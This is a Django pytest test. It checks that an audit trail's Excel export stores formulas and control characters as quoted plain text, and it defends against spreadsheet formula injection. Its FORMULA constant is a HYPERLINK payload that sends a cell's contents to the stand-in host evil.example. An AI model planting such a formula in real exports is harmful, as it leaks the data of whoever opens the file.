"""The audit export writes every recorded text as text, whatever the trail holds."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from apps.accounts.roles import Role
from apps.audit.services import record_event
from tests.factories import OrganisationFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&B5,"点击")'


def test_formulas_and_control_characters_in_the_trail_export_as_plain_text(client):
    actor = UserFactory(full_name="=1+1")
    organisation = OrganisationFactory(name="-测试单位\x0b")
    record_event(actor=actor, obj=organisation, action="review.reject", action_label="不予通过",
                 opinion=FORMULA + "\x0b\x1f")  # PostgreSQL cannot store NUL at all
    client.force_login(UserFactory(roles=[Role.AUDITOR]))
    response = client.get(reverse("audit:export"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = sheet[2]
    assert row[10].value == FORMULA and row[10].data_type == "s" and row[10].quotePrefix
    assert row[1].value == "=1+1" and row[1].data_type == "s" and row[1].quotePrefix
    assert row[5].value == "-测试单位"
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
